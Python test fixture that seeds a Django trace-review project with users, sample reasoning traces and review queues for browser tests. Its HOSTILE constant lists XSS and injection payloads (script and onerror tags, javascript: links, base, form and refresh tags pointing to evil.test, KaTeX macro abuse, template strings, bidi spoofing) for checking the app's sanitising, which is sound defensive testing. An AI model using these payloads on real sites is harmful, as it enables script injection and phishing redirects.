"""A made project for the browser tests of review; ``build`` runs inside of the copy under test."""

from __future__ import annotations

import json
from typing import Any

SLUG = "lab"
PASSWORD = "correct horse 77"
PEOPLE = ("ann", "ben", "cleo")

HOSTILE = "\n\n".join(
    [
        "<script>window.__owned=1;alert(1)</script><img src=x onerror=alert(2)>",
        "<svg onload=alert(3)><math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
        "[a](javascript:alert(5)) <a href='javascript:alert(6)'>x</a> <base href='http://evil.test/'>",
        "<form action='http://evil.test/'><meta http-equiv=refresh content='0;url=http://evil.test'>",
        "<style>@import 'http://evil.test/x.css'</style> ![](http://evil.test/pixel.png)",
        r"$\href{javascript:alert(7)}{x}$ $\includegraphics{http://evil.test/i.png}$",
        r"$\htmlData{x=1}{y}$ $\htmlStyle{color:red}{z}$ $\url{http://evil.test}$",
        r"$\edef\a{\a\a}\a$ $\rule{9999em}{9999em}$ $\frac{1}{$ $x<img src=x onerror=alert(8)>$",
        "<a id=cookie name=body class='chip ok'>Approved</a> <div id=review>fake</div>",
        "w" * 30_000,
        "\x1b[31mred\x1b[0m \u202egnp.exe\u202c ｕser аdmin",
        "{{7*7}} {% debug %} ${7*7} <%= 7 %>",
        '```python\nx = "</code><script>alert(9)</script>"\n```',
        "| <b>a</b> | b |\n|---|---|\n| <img src=x onerror=alert(10)> | **c** |",
    ]
)
ODD = "First 𝑥 + 1 😀 is $\\frac{a}{b}$ and e\u0301 then $y^2$ ends.\r\n\r\nSecond part is 𝑦.\n"

CODED = "# By **program**\n\n```python\n# a sum\nprint('is', 5 + nothing)\n```\n\nSo \\boxed{12}."


def long_text(paragraphs: int = 400, formulas: int = 400) -> str:
    """120,000 characters, each paragraph with a formula, and an end mark."""
    made = []
    for i in range(paragraphs):
        formula = f"$\\frac{{{i}}}{{{i + 1}}} + x_{{{i}}}^2$" if i < formulas else ""
        words = f"Step {i}: we take the {i}th term, multiply it by {i + 2} and compare. " * 4
        made.append(f"{words}{formula} so {i} + {i + 1} = {2 * i + 1}.")
    return "<think>\n" + "\n\n".join(made) + "\n</think>\n\nThe answer is \\boxed{12}. ZZENDMARK"


def short_text(n: int) -> str:
    return (
        f"<think>\nI need the sum of 5 and 7, number {n}. "
        "First 5 + 7 = 12, so the answer is 12.\n\n"
        "Wait, let me check that again. 12 - 7 = 5, which fits.\n\n"
        "Alternatively I can count on from five: six, seven, eight, nine, ten, eleven, twelve. "
        "So the answer is 12 again.\n\nHmm, but 5 + 7 = 13 would be wrong.\n</think>\n\n"
        "The answer is \\boxed{12}."
    )


def build() -> None:
    """Make the project, its people, traces and queues; prints one line of JSON."""
    from django.contrib.auth import get_user_model

    from curation.models import Membership, Project

    users = get_user_model()
    project = Project.objects.create(slug=SLUG, name="Review lab", settings={"review": {
        "labels": [
            {"name": "clarity", "title": "Clarity", "type": "rating", "max": 5},
            {"name": "style", "title": "Style", "type": "choice", "choices": ["plain", "wordy"]},
        ],
        "token_limit": 2000, "tokenizer": "demo-teacher"}})  # fmt: skip
    people = []
    for name in PEOPLE:
        person = users.objects.create_user(name, password=PASSWORD)
        role = "curator" if name == "cleo" else "reviewer"
        Membership.objects.create(project=project, user=person, role=role)
        people.append(person)
    owner = users.objects.get(username="owner")
    Membership.objects.create(project=project, user=owner, role="owner")
    traces = make_traces(project)
    queues = make_queues(project, traces)
    print(json.dumps({"traces": {k: v.pk for k, v in traces.items()}, "queues": queues}))


def make_traces(project: Any) -> dict[str, Any]:
    from curation.models import Problem, Source, Trace, Verdict
    from curation.segments import store_segmentation
    from curation.traces import text_fields

    source = Source.objects.create(project=project, name="made")
    texts = {f"short{i}": short_text(i) for i in range(24)}
    texts |= {"long": long_text(), "hostile": HOSTILE, "odd": ODD, "coded": CODED}
    # A dispute of one test must not change what the next export does in another.
    problems = [
        Problem.objects.create(
            project=project, source=source, text="What is 5 + 7? " + HOSTILE[:200],
            text_sha256=name, norm_sha256=name, reference_answer="12", kind="math",
        )
        for name in ("p", "apart")
    ]  # fmt: skip
    found = {}
    for name, text in texts.items():
        trace = Trace.objects.create(
            project=project, problem=problems[name == "short15"], source=source,
            origin="imported", identity=name, model=f"model-{name}", **text_fields(text),
        )  # fmt: skip
        store_segmentation(trace, "12")
        Verdict.objects.create(
            trace=trace, verifier="math", version="1", reference_sha256="r", verdict="correct",
            extracted="12",
        )  # fmt: skip
        found[name] = trace
    for name in ("short16", "short17"):
        score_steps(found[name])
    return found


def score_steps(trace: Any) -> None:
    """Step scores of a made process reward model: fine, low, low, fine, and one not scored."""
    from curation.judges.steps import ranges_of
    from curation.judging.imported import import_steps

    scores = [0.97, 0.31, 0.22, 0.9, None]
    steps = [
        {"start": low, "end": high, "score": score, "reason": "" if score else "past_limit"}
        for (low, high), score in zip(ranges_of(trace.text), scores, strict=True)
    ]
    row = {"trace": trace.pk, "model": "made-prm", "steps": steps}
    assert import_steps(trace.project, [row])["stored"] == 1


def make_queues(project: Any, traces: dict[str, Any]) -> dict[str, int]:
    from reviews.models import Queue, QueueItem

    plan: dict[str, tuple[dict[str, Any], list[str]]] = {
        "long": ({}, ["long"]),
        "keys": ({}, ["short0"]),
        "odd": ({}, ["odd"]),
        "hostile": ({"overlap": 2}, ["hostile"]),
        "offline": ({}, ["short1"]),
        "race": ({}, ["short2", "short3"]),
        "tabs": ({}, ["short4"]),
        "session": ({}, ["short5"]),
        "stale": ({}, ["short6"]),
        "blind": ({"hide": ["verdict", "proposals", "teacher"]}, ["short7"]),
        "pair": ({"overlap": 2, "policy": "unanimous"}, ["short8"]),
        "rules": ({}, ["short9"]),
        "look": ({}, ["short14"]),
        "effects": ({"hide": ["verdict"]}, ["short15"]),
        "scores": ({}, ["short16"]),
        "nearby": ({}, ["short18"]),
        "asked": ({}, ["short21"]),
        "leaving": ({"overlap": 2}, ["short20"]),
    }
    found = {}
    for name, (settings, members) in plan.items():
        queue = Queue.objects.create(project=project, name=name, **settings)
        for i, trace in enumerate(members):
            QueueItem.objects.create(queue=queue, trace=traces[trace], position=i)
        found[name] = queue.pk
    return found
